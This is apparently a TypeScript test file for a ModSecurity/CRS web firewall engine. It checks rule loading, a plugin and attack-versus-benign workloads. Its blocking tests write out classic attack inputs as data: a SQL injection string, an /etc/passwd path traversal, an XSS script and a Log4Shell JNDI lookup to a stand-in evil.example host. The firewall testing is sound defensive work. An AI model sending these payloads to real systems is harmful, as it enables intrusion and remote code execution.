import { analyse, compile, createEngine, type Diagnostic } from 'secrule'
import t from 'tap'
import { crsRecommended, crsTestRules, debianCrs, hasCrs, peerConfiguration, samplePlugin } from './crs-files.js'
import { readWorkload, runRequest, type WorkloadRequest } from './workload.js'

const skip = hasCrs ? false : 'no ../shared/crs beside the project'
const places = (list: readonly Diagnostic[]): string[] =>
  list.map(({ file, line, column, message }) => `${file}:${line}:${column} ${message}`)
const errorsOf = (list: readonly Diagnostic[]): string[] => places(list.filter(({ severity }) => severity === 'error'))

t.test('CRS 4.28 loads unchanged', { skip }, async (t) => {
  const { program, diagnostics } = analyse(crsTestRules)
  t.same(places(diagnostics), [], 'no errors and no warnings')
  t.comment(`${program!.counts.rules} rules, ${program!.counts.directives} directives, ${program!.counts.files} files`)
})

t.test('a CRS plugin loads in its order', { skip }, async (t) => {
  const { before, after } = samplePlugin()
  const around = (files: readonly string[]) => files.map((file) => ({ file }))
  const [settings, setup, rules] = crsRecommended
  const { program, diagnostics } = analyse([settings!, setup!, ...around(before), rules!, ...around(after)])
  t.same(errorsOf(diagnostics), [])
  const engine = createEngine(program!)
  const hit = await runRequest(engine, plain('/?secret=plugin'))
  t.equal(hit.interruption?.ruleId, 9599110)
  const excluded = await runRequest(engine, plain(`/editor/?text=${encodeURIComponent("1' OR '1'='1")}`))
  t.notOk(excluded.logged.includes(942100), 'its exclusion acts on CRS')
})

t.test("Debian's CRS 3.3.4 loads", async (t) => {
  const debian = debianCrs()
  if ('why' in debian) {
    t.pass(`skipped: no CRS 3.3.4 here: ${debian.why}`)
    return
  }
  const setup = `${debian.folder}/etc/modsecurity/crs/crs-setup.conf`
  const rules = `${debian.folder}/usr/share/modsecurity-crs/rules/*.conf`
  const { program, diagnostics } = analyse([{ file: 'corpus/recommended.conf' }, { file: setup }, { file: rules }])
  t.same(errorsOf(diagnostics), [])
  t.comment(`${program!.counts.rules} rules, ${program!.counts.directives} directives, ${program!.counts.files} files`)
  if (!hasCrs) return
  const engine = createEngine(program!)
  const attacks = readWorkload('attack')
  let stopped = 0
  for (const request of attacks) if ((await runRequest(engine, request)).interruption !== null) stopped++
  t.ok(stopped >= attacks.length * 0.9, `${stopped} of ${attacks.length} attacks stopped`)
  t.comment(`CRS 3.3.4 stops ${stopped} of ${attacks.length} attack requests`)
})

function plain(uri: string, extra: readonly (readonly [string, string])[] = []): WorkloadRequest {
  const headers = [['Host', 'shop.example.com'], ['User-Agent', 'Mozilla/5.0'], ['Accept', '*/*'], ...extra] as const
  const response = { status: 200, headers: [['Content-Type', 'text/html']] as const, body: 'ok' }
  return { id: uri, label: 'attack', method: 'GET', uri, httpVersion: '1.1', headers, response }
}

t.test('CRS at paranoia level 1 blocks the classics', { skip }, async (t) => {
  const engine = createEngine(compile(crsRecommended))
  const page = '<b>Fatal error</b>: Uncaught Error: Call to undefined function foo() in /var/www/html/index.php:3'
  const cases: readonly (readonly [WorkloadRequest, number])[] = [
    [plain(`/?q=${encodeURIComponent("1' OR '1'='1")}`), 942100],
    [plain('/?f=../../etc/passwd'), 930120],
    [plain(`/?x=${encodeURIComponent('<script>alert(1)</script>')}`), 941100],
    [plain('/', [['X-Api', `${'$'}{jndi:ldap://evil.example/a}`]]), 944150],
    [{ ...plain('/'), response: { status: 200, headers: [['Content-Type', 'text/html']], body: page } }, 953100],
  ]
  for (const [request, id] of cases) {
    const { interruption, logged } = await runRequest(engine, request)
    t.ok(interruption?.status === 403 && logged.includes(id), `${request.id}: ${logged.join(' ')}`)
  }
  t.equal((await runRequest(engine, plain('/?q=hello+world'))).interruption, null)
})

t.test('the workload under the settings of the peers', { skip }, async (t) => {
  const configuration = peerConfiguration()
  if (configuration === null) {
    t.pass('skipped: no ../shared/bench beside the project')
    return
  }
  const engine = createEngine(compile({ file: configuration }))
  const wrong: string[] = []
  const attacks = readWorkload('attack')
  for (const request of attacks) {
    const { interruption } = await runRequest(engine, request)
    if (interruption === null) wrong.push(`${request.id} passed`)
  }
  const benign = readWorkload('benign')
  for (const request of benign) {
    const { interruption, logged } = await runRequest(engine, request)
    if (interruption !== null || logged.length > 0) wrong.push(`${request.id} scored: ${logged.join(' ')}`)
  }
  t.same(wrong, [], `${attacks.length} attacks are stopped, ${benign.length} benign requests pass without a score`)
})

t.test('a program is plain data', { skip }, async (t) => {
  const program = compile(crsTestRules)
  const walk = (value: unknown, path: string): string[] => {
    if (value === null || ['string', 'number', 'boolean', 'undefined'].includes(typeof value)) return []
    if (ArrayBuffer.isView(value)) return []
    if (Array.isArray(value)) return value.flatMap((item, place) => walk(item, `${path}[${place}]`))
    if (Object.getPrototypeOf(value) !== Object.prototype) return [path]
    return Object.entries(value as object).flatMap(([key, item]) => walk(item, `${path}.${key}`))
  }
  t.same(walk(program, 'program'), [], 'no functions, no classes, no handles')
})
